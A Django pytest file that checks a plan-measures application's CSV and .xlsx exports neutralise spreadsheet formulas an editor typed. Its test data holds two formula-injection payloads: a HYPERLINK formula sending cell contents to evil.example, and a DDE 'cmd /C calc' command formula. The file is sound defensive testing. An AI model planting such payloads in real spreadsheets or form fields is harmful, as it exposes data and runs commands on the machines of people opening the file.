"""Text an editor typed reaches the CSV and .xlsx exports inert, whatever it starts with."""

from __future__ import annotations

import csv
import io
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import load_workbook

from tests.personas import Personas
from tests.test_spreadsheets import assert_no_formula
from tsunagari.measures.models import Measure, Submission
from tsunagari.measures.workflow import approve

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"詳細")'
COMMAND = "=1+2+cmd|' /C calc'!A0"


def _published_by_the_review(client: Client, personas: Personas) -> Measure:
    """The editor types formulas into the report; a reviewer approves it, so they are public."""
    measure = Measure.objects.get(plan__code="2024", number=8)
    data = {
        "fiscal_year": "2025",
        "achievement_text": LINK,
        "status": "achieved",
        "policy_text": COMMAND,
        "decision": "continue",
        **{f"actual_{i.pk}": "" for i in measure.indicators.all()},
    }
    client.force_login(personas.editor)
    assert client.post("/plan/staff/measures/8/edit/", data).status_code == 302
    approve(Submission.objects.get(measure=measure, state="submitted"), personas.reviewer)
    return measure


def test_the_csv_export_carries_the_editors_formulas_as_text(
    client: Client, personas: Personas
) -> None:
    _published_by_the_review(client, personas)
    out = StringIO()
    call_command("measures", "export", "--csv", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    row = next(r for r in rows if r[2] == "8")
    assert row[6] == "'" + LINK and row[7] == "'" + COMMAND


def test_the_xlsx_export_has_no_formula_and_keeps_the_wording(
    client: Client, personas: Personas, tmp_path: Path
) -> None:
    _published_by_the_review(client, personas)
    path = tmp_path / "plan.xlsx"
    call_command("measures", "export", "--xlsx", str(path), stdout=StringIO())
    assert_no_formula(path)
    sheet = load_workbook(path)["実施状況"]
    row = next(r for r in sheet.iter_rows(min_row=3) if r[0].value == 8)
    assert (row[4].value, row[5].value) == (LINK, COMMAND)
    assert row[4].data_type == "s" and row[4].quotePrefix
